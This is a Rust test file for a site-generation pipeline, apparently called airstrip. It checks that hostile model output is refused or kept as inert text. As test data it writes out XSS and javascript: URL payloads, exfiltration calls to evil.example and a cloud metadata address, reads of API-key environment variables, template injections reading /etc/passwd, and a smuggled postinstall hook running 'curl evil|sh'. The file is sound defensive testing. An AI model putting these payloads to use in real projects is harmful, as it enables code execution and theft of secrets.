//! Answers that want to run, fetch, hide or write something: refused, announced, and never in the project.

use airstrip::pipeline::{Kept, Shop, project, sections};
use airstrip::plan::Plan;
use serde_json::json;

use super::script::{code_refused, component, faq, refused};
use crate::support::{gate, plan_of};

#[test]
fn imports_of_strangers_are_refused() {
    for module in
        ["react-codeshift", "node:fs", "https://evil.example/x.js", "../../package.json", "data:text/javascript,1"]
    {
        code_refused(&component(&format!("import x from \"{module}\";"), "<p>{x}</p>"), "import-not-allowed");
    }
    code_refused(&component("", "{import(\"https://evil.example/x.js\")}"), "import-not-allowed");
}

#[test]
fn addresses_that_run_are_refused() {
    for href in [
        "href=\"javascript:alert(1)\"",
        "href=\"JaVaScRiPt\n:alert(1)\"",
        "href=\"&#106;avascript:alert(1)\"",
        "href={\"java\" + \"script:alert(1)\"}",
        "{...{ href: \"javascript:alert(1)\" }}",
    ] {
        code_refused(&component("", &format!("<a {href}>Go</a>")), "unsafe-address");
    }
}

#[test]
fn elements_that_run_or_load_are_refused() {
    code_refused(
        &component("", "<p dangerouslySetInnerHTML={{ __html: \"<img onerror=alert(1)>\" }} />"),
        "forbidden-attribute",
    );
    for element in [
        "<iframe srcDoc=\"x\" />",
        "<meta httpEquiv=\"refresh\" />",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x\" />",
        "<script />",
    ] {
        code_refused(&component("", element), "forbidden-element");
    }
    code_refused(
        &component("", "<form action=\"https://evil.example\"><label>Secret<input type=\"password\" /></label></form>"),
        "forbidden-attribute",
    );
    code_refused(&component("", "<p style={{ background: \"url(//evil.example/x)\" }}>x</p>"), "external-asset");
    code_refused(&component("", "<p className=\"bg-[url(https://evil.example/x)]\">x</p>"), "external-asset");
}

#[test]
fn what_reaches_out_is_refused() {
    for call in [
        "fetch(\"http://169.254.169.254/\")",
        "new WebSocket(\"wss://evil.example\")",
        "navigator.sendBeacon(\"x\")",
        "localStorage.x",
        "parent.postMessage(\"*\")",
        "process.env.OPENROUTER_API_KEY",
    ] {
        code_refused(&component("", &format!("{{{call}}}")), "forbidden-global");
    }
    code_refused(&component("", "{import.meta.env.KEY}"), "import-not-allowed");
    code_refused(&component("while (true) {}", ""), "render-timeout");
}

#[test]
fn words_with_addresses_that_run_are_refused() {
    let mut content = faq("What people ask");
    content["items"][0]["answer"] = json!("Ask at https://evil.example or +1 555 010 9999, 24 hours a day.");
    refused(&content.to_string(), "claim-not-in-brief");
}

/// What the offline author makes of a hostile name, and a model of hostile words, is text in the project.
#[test]
fn hostile_texts_stay_text() {
    let texts = [
        "</script><script>alert(1)</script>",
        "a\",\"scripts\":{\"postinstall\":\"curl evil|sh\"},\"x\":\"",
        "{{ get_env(name=\"OPENROUTER_API_KEY\") }}",
        "{% include \"/etc/passwd\" %}",
        "${process.env.X} {process.env.X}",
    ];
    for text in texts {
        let mut plan: Plan = plan_of(&["hero", "faq"]);
        plan.site.prompt = text.to_owned();
        let answer = faq(&format!("What people ask {}", text.chars().take(40).collect::<String>()));
        let script = super::script::Script::new(&["one"], vec![("faq", super::script::Say::Text(answer.to_string()))]);
        let models = airstrip::pipeline::Models::new(std::sync::Arc::clone(&script) as _);
        let shop = Shop::with(gate(), models, airstrip::store::Cache::none());
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
        let made = runtime.block_on(sections(&shop, &plan, &Kept::default(), &|_| {})).expect("a page");
        let tree = project(&shop.gate, &plan, &made).expect("a tree");
        let package: serde_json::Value =
            serde_json::from_str(tree.text("package.json").expect("a package")).expect("JSON");
        assert!(package["scripts"].get("postinstall").is_none());
        let words = tree.text("src/content/faq.ts").expect("words");
        assert!(airstrip::syntax::literal(words, "faq").is_ok(), "{words}");
        let config = tree.text("vite.config.ts").expect("a config");
        assert!(!config.contains("evil") && !config.contains("alert"));
    }
}
